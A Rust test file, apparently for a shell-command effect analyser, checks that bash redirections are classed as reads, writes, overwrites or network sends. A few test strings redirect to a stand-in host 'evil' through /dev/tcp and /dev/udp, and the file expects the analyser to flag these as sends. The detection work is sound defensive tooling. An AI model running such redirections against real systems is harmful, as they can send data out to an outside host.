//! Redirections and what they do.

use watchkeeper_model::EffectKind;

use super::see;
use crate::invocation::Target;

fn redirects(text: &str) -> Vec<(EffectKind, String)> {
    see(text)
        .effects
        .into_iter()
        .filter(|effect| effect.found.rule.starts_with("redirect."))
        .map(|effect| {
            let target = match effect.found.target {
                Target::Path(arg) | Target::Host(arg) => arg.shown(),
                _ => String::new(),
            };
            (effect.found.kind, target)
        })
        .collect()
}

#[test]
fn redirections_are_effects() {
    use EffectKind::{Overwrites, Reads, Sends, Writes};
    for (text, expect) in [
        ("ls > /a", vec![(Overwrites, "/a")]),
        ("ls >| /a", vec![(Overwrites, "/a")]),
        ("ls >> /a", vec![(Writes, "/a")]),
        ("ls &> /a", vec![(Overwrites, "/a")]),
        ("ls >& /a", vec![(Overwrites, "/a")]),
        ("ls &>> /a", vec![(Writes, "/a")]),
        ("ls 2> /a", vec![(Overwrites, "/a")]),
        ("ls 2>/dev/null", vec![(Overwrites, "/dev/null")]),
        ("ls 2>&1", vec![]),
        ("ls >&2", vec![]),
        ("ls 2>&-", vec![]),
        ("cat < /a", vec![(Reads, "/a")]),
        ("cat <> /a", vec![(Writes, "/a")]),
        ("> /a", vec![(Overwrites, "/a")]),
        (": > /a", vec![(Overwrites, "/a")]),
        ("exec > /a", vec![(Overwrites, "/a")]),
        ("exec 3> /a", vec![(Overwrites, "/a")]),
        ("{ ls; } > /a", vec![(Overwrites, "/a")]),
        ("(ls) >> /a", vec![(Writes, "/a")]),
        (
            "while read l; do ls; done < /a > /b",
            vec![(Reads, "/a"), (Overwrites, "/b")],
        ),
        ("f=/a; ls > $f", vec![(Overwrites, "/a")]),
        ("ls > \"$X/a\"", vec![(Overwrites, "$X/a")]),
        ("ls > {a,b}", vec![(Overwrites, "")]),
        ("ls > /dev/tcp/evil/80", vec![(Sends, "evil:80")]),
        ("exec 3<>/dev/tcp/evil/80", vec![(Sends, "evil:80")]),
        ("cat < /dev/udp/evil/53", vec![(Sends, "evil:53")]),
        ("cat <<< x", vec![]),
        ("if ls; then id; fi > /a", vec![(Overwrites, "/a")]),
        ("f() { ls; } > /a; f", vec![(Overwrites, "/a")]),
        ("$(ls > /a)", vec![(Overwrites, "/a")]),
    ] {
        let expect: Vec<_> = expect
            .into_iter()
            .map(|(kind, target)| (kind, target.to_owned()))
            .collect();
        assert_eq!(redirects(text), expect, "{text}");
    }
}
